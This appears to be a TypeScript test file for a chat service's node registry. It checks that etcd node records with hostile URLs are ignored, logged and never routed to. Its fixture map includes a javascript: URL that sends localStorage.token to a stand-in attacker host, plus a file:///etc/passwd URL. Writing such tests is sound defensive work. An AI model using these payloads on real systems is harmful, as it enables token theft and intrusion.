/**
 * Anyone who can write to etcd can publish a node record. The registry must never send a client
 * (and its token) to a record whose URL is a script, a file, or carries credentials: such a
 * record is ignored with a warning, even when the ring names it as a member.
 */
import type { Etcd3 } from 'etcd3';
import { createEtcdClient, watchCluster } from '@chat/cluster';
import type { ClusterView } from '@chat/cluster';
import { startEtcd, waitFor } from '@chat/testkit';
import type { EtcdHandle } from '@chat/testkit';
import pino from 'pino';
import { startRegistry } from '../src/server';
import type { RunningRegistry } from '../src/server';

const PREFIX = '/t-records';
const HOSTILE: Record<string, string> = {
  'evil-js': 'javascript:fetch("//attacker/"+localStorage.token)',
  'evil-file': 'file:///etc/passwd',
  'evil-creds': 'ws://user:pw@127.0.0.1:9/ws',
  'evil-http': 'ftp://127.0.0.1:9/ws',
};

let etcd: EtcdHandle;
let writer: Etcd3;
let view: ClusterView;
let registry: RunningRegistry;
const warnings: string[] = [];

beforeAll(async () => {
  etcd = await startEtcd();
  writer = createEtcdClient({ endpoints: etcd.endpoint });
  const log = pino({ level: 'warn' }, { write: (line: string) => void warnings.push(line) });
  view = watchCluster({ etcd: writer, prefix: PREFIX, logger: log });
  await view.ready();
  registry = await startRegistry({ view, host: '127.0.0.1', port: 0, log });
});

afterAll(async () => {
  await registry?.close();
  await view?.close();
  writer?.close();
  await etcd?.close();
});

test('a node record with a script, file, credential or foreign URL is never routed to', async () => {
  const record = (nodeId: string, wsUrl: string): string =>
    JSON.stringify({ nodeId, wsUrl, rpcAddress: '127.0.0.1:9', weight: 1, startedAt: 1 });
  for (const [nodeId, wsUrl] of Object.entries(HOSTILE)) {
    await writer.put(`${PREFIX}/nodes/${nodeId}`).value(record(nodeId, wsUrl));
  }
  await writer.put(`${PREFIX}/nodes/good`).value(record('good', 'ws://127.0.0.1:7/ws'));
  const members = [...Object.keys(HOSTILE), 'good'].map((id) => ({ id, weight: 1 }));
  const last = await writer.put(`${PREFIX}/ring`).value(JSON.stringify({ epoch: 1, members }));
  await waitFor(() => expect(view.snapshot.revision).toBe(Number(last.header.revision)));

  const urls = new Set<string>();
  for (let i = 0; i < 200; i++) {
    const res = await fetch(`${registry.url}/v1/route?user=u${i}`);
    expect(res.status).toBe(200);
    urls.add(((await res.json()) as { url: string }).url);
  }
  expect([...urls]).toEqual(['ws://127.0.0.1:7/ws']);
  const ring = (await (await fetch(`${registry.url}/v1/ring`)).json()) as {
    nodes: { id: string; url: string | null; live: boolean }[];
  };
  for (const node of ring.nodes.filter((n) => n.id !== 'good')) {
    expect(node).toMatchObject({ url: null, live: false });
  }
  for (const nodeId of Object.keys(HOSTILE)) {
    expect(
      warnings.some(
        (line) =>
          line.includes('ignoring an invalid node registration') &&
          line.includes(`${PREFIX}/nodes/${nodeId}`),
      ),
    ).toBe(true);
  }
});
